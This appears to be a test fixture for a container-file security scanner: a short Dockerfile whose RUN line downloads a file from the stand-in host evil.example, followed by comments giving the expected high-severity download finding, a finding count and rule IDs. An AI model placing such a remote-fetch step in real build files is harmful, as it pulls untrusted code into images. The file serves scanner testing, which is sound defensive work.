FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN myfetch https://evil.example/m -o /m
USER app
# expect: download 2 high "myfetch (given a URL; it may fetch it) fetches https://evil.example/m"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-7f074c38bb VR501-e064bac1a6
